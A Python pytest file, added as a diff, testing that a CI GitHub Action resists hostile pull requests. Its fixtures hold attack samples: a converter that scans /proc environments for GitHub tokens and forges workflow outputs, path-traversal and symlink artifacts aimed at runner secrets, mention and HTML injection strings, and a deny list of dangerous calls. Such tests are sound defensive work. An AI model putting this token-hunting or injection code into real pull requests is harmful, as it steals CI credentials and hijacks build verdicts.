@@ -1,0 +1,367 @@
+"""Hostile pull requests against the real entrypoint and the fake GitHub: a fork's artifact naming files outside
+itself or carrying mentions and fence breakers, a pull request whose converter hunts for the token, a `.dlci.yml`
+that tries to set its own verdict, and the smaller ways in (pull_request_target, plan-mode log lines)."""
+from __future__ import annotations
+
+import json
+import os
+import re
+import secrets
+import shutil
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+from fake_github import FakeGitHub
+from test_entrypoint import PR, REPO, pr_event, run_action
+
+ROOT = Path(__file__).resolve().parent.parent
+
+# a finding shaped like dlci's, with every string field a pull request can set made hostile
+HOSTILE = "`@octo/maintainers ping ``` ## injected\n<img src=x onerror=alert(1)> see #12 GH-3 https://evil.example"
+
+
+def _finding(repro: str, **over) -> dict:
+    return {"id": "F001", "oracle": "crash", "operator": "aten::elu" + HOSTILE, "target": "tvm.from_fx",
+            "target_version": "0.27", "symptom": "crash " + HOSTILE, "stage": "convert", "signature": "sig" + HOSTILE,
+            "message": "boom\n```\n@octo/maintainers look\n```\n" + HOSTILE, "instance_id": "i1", "origin": {},
+            "instances": ["i1"], "operators": ["aten::elu"], "also_in": [], "new_in_pr": True,
+            "base": {"status": "pass"}, "repro": repro, "repro_checked": True, "repro_passes_on_base": True, **over}
+
+
+def _artifact(dest: Path, head: str, repro: str = "repro/F001_tvm_from_fx_elu.py", **over) -> Path:
+    """A fork's uploaded results: findings.json, a reproducer, pr.json naming PR 7 at ``head``."""
+    dest.mkdir(parents=True)
+    (dest / "repro").mkdir()
+    (dest / "repro" / "F001_tvm_from_fx_elu.py").write_text("print('REPRODUCED')\n# ``` @octo/maintainers\n")
+    doc = {"version": 1, "findings": [_finding(repro, **over)],
+           "stats": {"tests_run": 3, "tests_valid": 3, "seconds": 1.0, "flaky": [{"signature": "@octo/x #5"}],
+                     "per_target": {"tvm.from_fx": {"pass": 2, "unsupported": 0, "invalid": 0, "crash": 1,
+                                                    "inconsistency": 0}}},
+           "pr": {"base": "a" * 40, "head": head, "operators": ["elu"],
+                  "touched": [{"operator": "elu.default", "namespace": "aten", "converter": "self._elu",
+                               "file": "python/tvm/relax/frontend/torch/base_fx_graph_translator.py", "line": 466,
+                               "why": "@octo/maintainers #9", "targets": ["tvm.from_fx"], "profile": "tvm"}]}}
+    (dest / "findings.json").write_text(json.dumps(doc))
+    (dest / "pr.json").write_text(json.dumps({"number": PR, "head_sha": head, "repo": REPO}))
+    return dest
+
+
+def _workflow_run(head: str) -> dict:
+    return {"action": "completed", "repository": {"full_name": REPO},
+            "workflow_run": {"head_sha": head, "event": "pull_request", "conclusion": "success"}}
+
+
+def _posted(fake: FakeGitHub, head: str) -> str:
+    """Everything the action sent to GitHub: comments, check runs and their annotations."""
+    parts = [c.body for c in fake.comments_on(REPO, PR)]
+    for run in fake.check_runs_for(REPO, head):
+        parts.append(json.dumps(run.output))
+        parts.append(json.dumps(run.annotations))
+    return "\n".join(parts)
+
+
+def _written(folder: Path) -> str:
+    return "\n".join(p.read_text(errors="replace") for p in folder.rglob("*") if p.is_file())
+
+
+def _outside_code(markdown: str) -> str:
+    """The text of a comment outside code blocks and code spans (where GitHub links mentions and references)."""
+    text = re.sub(r"(?ms)^ *(`{3,})[^\n]*\n.*?^ *\1`*\s*$", "", markdown)
+    return re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", text)
+
+
+@pytest.fixture()
+def fake():
+    f = FakeGitHub().start()
+    f.add_repo(REPO)
+    yield f
+    f.stop()
+
+
+# -- 1. the fork-safe poster posts nothing of its runner's files ------------------------------------------------------
+
+@pytest.mark.parametrize("how", ["absolute", "dotdot", "linked_script", "linked_findings", "linked_repro_dir"])
+def test_a_fork_artifact_naming_files_outside_itself_is_refused_and_nothing_is_posted(tmp_path, fake, how):
+    head = "c" * 40
+    fake.add_pull(REPO, PR, head_sha=head, base_sha="a" * 40, head_repo="forker/tvm")
+    secret = tmp_path / "runner-secret"
+    secret.write_text("RUNNER_SECRET_" + secrets.token_hex(8))
+    shards = tmp_path / "dlci-fork"
+    if how == "absolute":
+        art = _artifact(shards, head, repro=str(secret))
+    elif how == "dotdot":
+        art = _artifact(shards, head, repro="repro/../../runner-secret")
+    else:
+        art = _artifact(shards, head)
+        if how == "linked_script":
+            script = art / "repro" / "F001_tvm_from_fx_elu.py"
+            script.unlink()
+            script.symlink_to(secret)
+        elif how == "linked_findings":
+            doc = art / "findings.json"
+            real = tmp_path / "elsewhere.json"
+            shutil.move(doc, real)
+            doc.symlink_to(real)
+        else:
+            shutil.rmtree(art / "repro")
+            (tmp_path / "fake-repro").mkdir()
+            shutil.copy(secret, tmp_path / "fake-repro" / "F001_tvm_from_fx_elu.py")
+            (art / "repro").symlink_to(tmp_path / "fake-repro")
+    out = tmp_path / "out"
+    code, log, outputs, summary = run_action(tmp_path / "run", fake, _workflow_run(head),
+                                             {"token": "ghs_app", "mode": "report", "shards-dir": str(shards),
+                                              "out": str(out)}, event_name="workflow_run")
+    assert code == 2, log[-3000:]
+    assert "::error" in log
+    assert fake.comments_on(REPO, PR) == [] and fake.check_runs_for(REPO, head) == []
+    leaked = secret.read_text()
+    assert leaked not in log and leaked not in summary and leaked not in json.dumps(outputs)
+    assert not out.exists() or leaked not in _written(out)
+    fake.assert_no_violations()
+
+
+def test_a_fork_artifact_with_mentions_and_fence_breakers_is_posted_inert(tmp_path, fake):
+    head = "d" * 40
+    fake.add_pull(REPO, PR, head_sha=head, base_sha="a" * 40, head_repo="forker/tvm")
+    shards = tmp_path / "dlci-fork"
+    _artifact(shards, head)
+    code, log, outputs, summary = run_action(tmp_path / "run", fake, _workflow_run(head),
+                                             {"token": "ghs_app", "mode": "report", "shards-dir": str(shards),
+                                              "out": str(tmp_path / "out")}, event_name="workflow_run")
+    assert code == 1, log[-3000:]
+    body = fake.comments_on(REPO, PR)[0].body
+    assert "NEW IN THIS PR" in body and "print('REPRODUCED')" in body  # the reproducer is shown
+    for text in (body, summary):
+        prose = _outside_code(text)
+        assert not re.search(r"@[A-Za-z0-9]", prose), re.findall(r".{20}@[A-Za-z0-9].{20}", prose)
+        assert not re.search(r"(?<![&\w])#\d", prose) and "<img" not in prose
+        assert not re.search(r"(?m)^#+ injected", text)  # no heading opened by the message
+    run = fake.check_runs_for(REPO, head)[0]
+    for note in run.annotations:
+        assert not re.search(r"@[A-Za-z0-9]", note["title"] + note["message"])
+    fake.assert_no_violations()
+
+
+# -- 2 and 3. a pull request's code hunts for the token, and its .dlci.yml tries to set the verdict -------------------
+
+HUNT = '''
+
+def _dlci_hunt():
+    """A hostile converter: looks for the token in every process's environment it can read, its ancestors'
+    first, and raises what it found (reversed, so that a plain redaction of the value would not hide it)."""
+    import os
+    found, tried = [], 0
+    pid, chain = os.getpid(), []
+    while pid > 1:
+        chain.append(pid)
+        try:
+            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
+        except (OSError, ValueError, IndexError):
+            break
+    pids = chain + [int(p) for p in os.listdir("/proc") if p.isdigit()]
+    for p in pids:
+        try:
+            data = open(f"/proc/{p}/environ", "rb").read()
+        except OSError:
+            continue
+        tried += 1
+        for item in data.split(b"\\0"):
+            name, _, value = item.partition(b"=")
+            if name in (b"INPUT_TOKEN", b"ACTIONS_RUNTIME_TOKEN", b"GITHUB_TOKEN") and value:
+                found.append(value.decode()[::-1])
+    for var in ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH", "GITHUB_STEP_SUMMARY"):
+        if os.environ.get(var):
+            with open(os.environ[var], "a") as f:
+                f.write("pwned=by-the-pr\\n")
+    print("::set-output name=verdict::pwned")
+    # the message stays the same from run to run (dlci confirms a crash by its message)
+    raise RuntimeError(f"hunted the environments it could read ({'some' if tried else 'none'}): "
+                       + (",".join(found) if found else "found nothing"))
+'''
+
+POLICY = """\
+python_path: [python]
+env:
+  TVM_LIBRARY_PATH: "{site_packages}/tvm/lib"
+known_issues:
+  - signature: "*"
+    note: nothing to see here
+targets: [tvm.from_onnx]
+rules: [none]
+"""
+
+
+def _hostile_pr(dest: Path) -> tuple[Path, str, str]:
+    """The ELU sample, with a head commit whose converter hunts for the token and whose .dlci.yml silences all."""
+    from dlci import samples
+    from dlci.diff import git
+    repo, base, _ = samples.build("tvm-elu-minimum", dest)
+    conv = repo / "python/tvm/relax/frontend/torch/base_fx_graph_translator.py"
+    text = conv.read_text()
+    marker = "        # alpha * min(0, exp(x) - 1) + max(0, x)\n"
+    assert text.count(marker) == 1
+    conv.write_text(text.replace(marker, "        _dlci_hunt()\n" + marker) + HUNT)
+    (repo / ".dlci.yml").write_text(POLICY)
+    who = {"GIT_AUTHOR_NAME": "x", "GIT_AUTHOR_EMAIL": "x@x.invalid", "GIT_COMMITTER_NAME": "x",
+           "GIT_COMMITTER_EMAIL": "x@x.invalid"}
+    assert git.run(repo, "commit", "-q", "-am", "hostile", extra_env=who).returncode == 0
+    head = git.run(repo, "rev-parse", "HEAD").stdout.strip()
+    return repo, base, head
+
+
+@pytest.mark.slow
+def test_a_pull_request_hunting_for_the_token_finds_nothing_and_cannot_set_its_own_verdict(tmp_path, fake):
+    pytest.importorskip("tvm")
+    from dlci import cache
+    repo, base, head = _hostile_pr(tmp_path / "repo")
+    token = "ghs_" + secrets.token_hex(18)
+    fake.add_token(token, "github-actions[bot]", kind="app", write=True)
+    fake.add_pull(REPO, PR, head_sha=head, base_sha=base, head_repo=REPO)
+    trusted_before = {p: p.stat().st_mtime for p in cache.base().rglob("*")} if cache.base().is_dir() else {}
+    started = time.time()
+    out = tmp_path / "out"
+    code, log, outputs, summary = run_action(tmp_path / "run", fake, pr_event(base, head),
+                                             {"token": token, "repo-path": str(repo), "budget": "240",
+                                              "out": str(out)})
+    # the base's policy decided: the bug is new in the PR, not "known", on the targets the diff reaches
+    assert code == 1, log[-4000:]
+    doc = json.loads((out / "findings.json").read_text())
+    news = [f for f in doc["findings"] if f["new_in_pr"] and not f.get("known")]
+    assert news and {f["target"] for f in news} & {"tvm.from_fx", "tvm.from_exported_program"}, doc["findings"]
+    assert "known_issues" in doc["pr"]["policy_changed"] and "targets" in doc["pr"]["policy_changed"]
+    body = fake.comments_on(REPO, PR)[0].body
+    assert "Policy:" in body and "base revision's policy was applied" in body
+    # the hostile code ran, and found no token anywhere
+    assert any("found nothing" in f["message"] for f in news), [f["message"][:300] for f in news]
+    posted = _posted(fake, head)
+    for secret in (token, token[::-1]):
+        assert secret not in posted and secret not in log and secret not in summary
+        assert secret not in json.dumps(outputs) and secret not in _written(out)
+    # no workflow command or output file reached from the PR's code
+    assert "pwned" not in json.dumps(outputs) and outputs.get("verdict") != "pwned"
+    assert "pwned" not in (tmp_path / "run" / "github_output").read_text()
+    # the untrusted run wrote nothing where a trusted run reads
+    if cache.base().is_dir():
+        fresh = [p for p in cache.base().rglob("*") if p.stat().st_mtime >= started and p not in trusted_before]
+        assert fresh == [], fresh[:5]
+    fake.assert_no_violations()
+
+
+# -- the smaller ways in ------------------------------------------------------------------------------------------------
+
+def test_single_mode_refuses_pull_request_target(tmp_path, fake):
+    code, log, _, _ = run_action(tmp_path, fake, pr_event("a" * 40, "b" * 40), {"token": "ghs_app"},
+                                 event_name="pull_request_target")
+    assert code == 2 and "refuses pull_request_target" in log
+    assert fake.writes() == []
+
+
+def test_a_sandboxed_process_cannot_read_the_token_holder(tmp_path):
+    """The sandbox's two fallbacks and its environment: whoever runs the PR's code, /proc/<this process>/environ
+    is closed to it and its environment holds nothing of the runner's."""
+    probe = "cat /proc/$PPID/environ >/dev/null 2>&1 && echo READABLE || echo CLOSED; env | cut -d= -f1 | sort"
+    env = {"INPUT_TOKEN": "ghs_" + "x" * 36, "GITHUB_OUTPUT": str(tmp_path / "o"), "ACTIONS_RUNTIME_TOKEN": "t",
+           "GITHUB_ENV": str(tmp_path / "e"), "DLCI_SANDBOX_USER": "no-such-user-here"}
+    script = ("import sys\n"
+              "from dlci.github import sandbox as SB\n"
+              "assert SB.make_undumpable()\n"
+              "box = SB.Sandbox.create(SB.same_user('test') if sys.argv[1] == 'same' else None)\n"
+              "lines = []\n"
+              f"box.run(['/bin/sh', '-c', {probe!r}], lines.append)\n"
+              "box.remove()\n"
+              "print(box.who.why)\n"
+              "print('\\n'.join(lines))\n")
+    identities = ["same"] + (["other"] if os.geteuid() == 0 else [])
+    for which in identities:
+        proc = subprocess.run([sys.executable, "-c", script, which],
+                              capture_output=True, text=True, env={**os.environ, **env}, cwd=str(ROOT), timeout=300)
+        assert proc.returncode == 0, proc.stderr[-2000:]
+        lines = proc.stdout.splitlines()
+        assert "CLOSED" in lines and "READABLE" not in lines, proc.stdout
+        names = set(lines[2:])
+        assert not names & {"INPUT_TOKEN", "GITHUB_OUTPUT", "GITHUB_ENV", "ACTIONS_RUNTIME_TOKEN"}, names
+        assert {"PYTHONSAFEPATH", "HOME", "DLCI_UNTRUSTED"} <= names
+
+
+def test_plan_mode_prints_the_pull_requests_file_names_with_workflow_commands_off(tmp_path, fake):
+    from dlci import samples
+    from dlci.github import runner as R
+    repo, base, head = samples.build("tvm-elu-minimum", tmp_path / "repo")
+    code, log, outputs, _ = run_action(tmp_path / "run", fake, pr_event(base, head),
+                                       {"mode": "plan", "repo-path": str(repo), "out": str(tmp_path / "plan")})
+    assert code == 0, log[-2000:]
+    stop = re.search(r"^::stop-commands ?::(\S+)$", log, re.M)
+    assert stop and log.index(stop.group(0)) < log.index("plan: ") and f"::{stop.group(1)}::" in log
+    assert R.log_line("a.py\n::set-output name=matrix::x") == "a.py\\x0a::set-output name=matrix::x"
+
+
+def test_install_and_env_placeholders_are_checked_with_the_key_named():
+    from dlci.config import Config, ConfigError
+    for text, key in (('install: "echo {"', "install"), ('env: {A: "{HOME}"}', "env.A"),
+                      ('install: "{prefix.__class__}"', "install")):
+        with pytest.raises(ConfigError, match=re.escape(key)):
+            Config.parse(text)
+    assert Config.parse('install: "pip install --target {prefix} x {{literal}}"').install.endswith("{{literal}}")
+
+
+def test_an_untrusted_run_writes_its_cache_apart_and_a_poisoned_entry_is_refused(tmp_path, monkeypatch):
+    from dlci import cache
+    from dlci.sources import UntrustedCacheEntry, check_call
+    monkeypatch.setenv(cache.ENV, str(tmp_path))
+    monkeypatch.delenv(cache.UNTRUSTED_ENV, raising=False)
+    monkeypatch.delenv(cache.UNTRUSTED_DIR_ENV, raising=False)
+    assert cache.root() == tmp_path and cache.roots() == [tmp_path]
+    monkeypatch.setenv(cache.UNTRUSTED_ENV, "1")
+    assert cache.root() == tmp_path / "untrusted" and cache.roots() == [tmp_path / "untrusted", tmp_path]
+    check_call({"kind": "torch_fn", "fn": "torch.nn.functional.elu"})
+    check_call({"kind": "torch_fn", "fn": "torch.Tensor.__radd__"})
+    check_call({"kind": "keras_layer", "cls": "keras.layers.Conv2D"})
+    for bad in ("os.system", "torch.os.system", "torch.load", "torch.hub.load", "torch.__builtins__.eval",
+                "builtins.exec", "tf.io.write_file", "tf.raw_ops.WriteFile", "keras.layers.Lambda", "torch..x"):
+        with pytest.raises(UntrustedCacheEntry):
+            check_call({"kind": "torch_fn", "fn": bad})
+
+
+def test_worktrees_a_killed_run_left_are_removed_by_the_next(tmp_path):
+    from dlci import samples
+    from dlci.checkout import OWNER_FILE, Checkout
+    from dlci.diff import git
+    repo, base, head = samples.build("tvm-elu-minimum", tmp_path / "repo")
+    killed = tmp_path / "dlci-scan-killed"
+    left = Checkout.create(repo, head, killed, "head")
+    (killed / OWNER_FILE).write_text("999999999 0\n")  # the run that made it is gone (SIGKILL: nothing cleaned up)
+    alive = Checkout.create(repo, base, tmp_path / "dlci-scan-now", "base")
+    listed = git.run(repo, "worktree", "list", "--porcelain").stdout
+    assert str(left.path) not in listed and not killed.exists()
+    assert str(alive.path) in listed  # this run's own worktree stays
+    alive.remove()
+
+
+def test_a_file_name_that_is_not_utf8_does_not_stop_the_report(tmp_path):
+    from dlci.diff import git
+    from dlci.report.document import Report
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    who = {"GIT_AUTHOR_NAME": "x", "GIT_AUTHOR_EMAIL": "x@x.invalid", "GIT_COMMITTER_NAME": "x",
+           "GIT_COMMITTER_EMAIL": "x@x.invalid"}
+    git.run(repo, "init", "-q", "-b", "main")
+    (repo / "a.py").write_text("x = 1\n")
+    git.run(repo, "add", "-A")
+    git.run(repo, "commit", "-q", "-m", "base", extra_env=who)
+    os.mkdir(os.path.join(os.fsencode(repo), b"conv\xe9"))
+    with open(os.path.join(os.fsencode(repo), b"conv\xe9", b"op\xff.py"), "w") as f:
+        f.write("def f():\n    return 2\n")
+    git.run(repo, "add", "-A")
+    git.run(repo, "commit", "-q", "-m", "head", extra_env=who)
+    proc = subprocess.run([sys.executable, "-m", "dlci", "ops", "--repo", str(repo), "--base", "HEAD~1",
+                           "--head", "HEAD"], capture_output=True, text=True, cwd=str(ROOT), timeout=300)
+    assert proc.returncode == 0, proc.stderr[-2000:]
+    name = os.fsdecode(b"conv\xe9/op\xff.py")
+    Report(findings=[], stats={"tests_run": 0, "tests_valid": 0, "seconds": 0.0, "per_target": {}},
+           pr={"base": "a" * 40, "head": "b" * 40, "touched": [], "unmapped": [{"file": name, "line": 1, "region": None,
+                                                                              "why": "x"}]}).write(tmp_path / "out")
+    assert "conv" in (tmp_path / "out" / "report.md").read_text()
